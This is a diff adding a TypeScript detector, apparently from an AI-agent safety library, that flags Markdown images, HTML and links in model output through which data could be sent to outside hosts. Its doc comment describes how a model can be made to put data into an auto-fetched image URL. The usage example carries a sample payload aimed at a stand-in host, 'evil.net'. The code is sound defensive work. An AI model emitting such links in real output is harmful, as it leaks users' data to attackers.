@@ -1,0 +1,65 @@
+import type { Detector } from "../detectors/detector.ts";
+import { createHostMatcher } from "../urls/host-pattern.ts";
+import { findLinks, type FoundLink } from "./find-links.ts";
+
+/** Options of {@link createExfiltrationDetector}. */
+export interface ExfiltrationDetectorOptions {
+  /** Hosts that a text may link to and show images of. `.example.org` is the host and all below it. Default none. */
+  readonly allowHosts?: readonly string[];
+}
+
+/**
+ * Finds Markdown and HTML by which a text carries data away when it is shown: an image is fetched without a click, and its URL
+ * takes along what a model was made to put into it. Images and HTML are found with score 0.9 whatever their URL, links with
+ * 0.7 when the URL carries data and 0.3 when it does not.
+ *
+ * @throws AgentKitError `definition_invalid` when a host is none.
+ * @see OWASP LLM05:2025 (improper output handling), CommonMark 0.31
+ *
+ * @example
+ * ```ts
+ * import { createExfiltrationDetector, scanText } from "@agentkit/safety";
+ *
+ * const exfiltration = createExfiltrationDetector({ allowHosts: ["cdn.example.org"] });
+ * const [finding] = exfiltration.detect(scanText("![](https://evil.net/?q=secret)"), { source: "model" });
+ * console.log(finding?.category); // exfiltration.image
+ * ```
+ */
+export function createExfiltrationDetector(options: ExfiltrationDetectorOptions = {}): Detector {
+  const isAllowed = createHostMatcher(options.allowHosts ?? []);
+  return {
+    id: "exfiltration",
+    version: "1",
+    categories: ["exfiltration.image", "exfiltration.link", "exfiltration.html"],
+    detect: (text) =>
+      withoutRepeats(
+        findLinks(text.normalized).filter(({ url }) => !isAllowed(url.host) && !isAllowed(url.hostname)),
+      ).map((link) => {
+        const [start, end] = text.toOriginal(link.start, link.end);
+        return { category: `exfiltration.${link.kind}`, rule: link.kind, start, end, score: toScore(link) };
+      }),
+  };
+}
+
+/** A tag with several URLs, or with one in its style, is one finding. */
+function withoutRepeats(links: readonly FoundLink[]): readonly FoundLink[] {
+  let tagEnd = 0;
+  return links.filter(({ kind, end }) => {
+    if (kind !== "html") return true;
+    const isNew = end > tagEnd;
+    tagEnd = Math.max(tagEnd, end);
+    return isNew;
+  });
+}
+
+function toScore({ kind, url }: FoundLink): number {
+  if (kind !== "link") return 0.9;
+  return carriesData(url) ? 0.7 : 0.3;
+}
+
+/** A query, a user name, or a part that no person named: long, or of the characters of an encoding. */
+function carriesData({ search, hash, username, pathname, hostname }: URL): boolean {
+  if (search.length > 1 || username !== "" || hash.length > 40) return true;
+  const parts = [...pathname.split("/"), ...hostname.split(".")];
+  return parts.some((part) => part.length > 64 || /^(?=\D*\d)[A-Za-z0-9+_=]{24,}$/.test(part));
+}
